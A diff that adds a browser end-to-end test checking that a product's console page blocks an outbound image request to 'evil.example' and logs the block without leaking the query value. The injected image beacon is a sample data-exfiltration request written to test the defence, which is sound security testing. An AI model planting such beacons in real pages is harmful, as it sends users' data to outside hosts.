@@ -46,6 +46,18 @@ test('C141 what administrators write is text on every page of the settings, and 
   }
 });
 
+test('C142 what the policy keeps out of the console, the operator is told', async () => {
+  const desk = await openDesk();
+  const context = await desk.openUnwatched();
+  const page = await context.newPage();
+  await page.goto(`${desk.product.url}/console/`);
+  await page.evaluate(() => {
+    new Image().src = 'https://evil.example/picture?of=somebody';
+  });
+  await expect.poll(() => desk.product.output()).toMatch(/"blocked":"https:\/\/evil\.example","page":"\/console"/);
+  expect(desk.product.output()).not.toContain('somebody');
+});
+
 test('C154 what a visitor links to cannot reach the console, nor learns of it', async () => {
   const desk = await openDesk();
   const anna = await desk.agent('anna');
